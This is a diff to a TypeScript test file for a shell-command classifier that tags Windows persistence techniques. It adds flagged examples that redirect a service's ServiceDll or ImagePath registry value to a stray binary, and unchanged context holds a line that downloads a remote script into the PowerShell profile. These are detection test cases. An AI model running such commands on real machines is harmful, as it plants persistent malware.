@@ -65,6 +65,12 @@ const flagged: Array<[string, Shell, string]> = [
     'persist.file',
   ],
   ['iwr https://x.example/p.ps1 -outfile $HOME\\Documents\\WindowsPowerShell\\profile.ps1', 'powershell', 'persist.file'],
+  ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Parameters /v ServiceDll /d C:\\t\\x.dll /f', 'cmd', 'persist.registry'],
+  [
+    "Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\Fax' -Name ImagePath -Value 'C:\\t\\x.exe'",
+    'powershell',
+    'persist.registry',
+  ],
 ];
 
 const allowed: Array<[string, Shell]> = [
@@ -89,6 +95,12 @@ const allowed: Array<[string, Shell]> = [
   ['usermod -aG developers alice', 'bash'],
   ['Enable-PSRemoting -Force', 'powershell'],
   ['cat .git/hooks/pre-commit.sample', 'bash'],
+  // Service configuration is not what a service runs.
+  [
+    "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters' -Name SMB1 -Value 0 -Type DWord",
+    'powershell',
+  ],
+  ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters /v MaxUserPort /t REG_DWORD /d 65534 /f', 'cmd'],
   ['ls -la /srv/app/.git/hooks', 'bash'],
   ['curl -O https://x.example/.bashrc', 'bash'],
   ['curl -fsSL -o /tmp/job https://x.example/job', 'bash'],
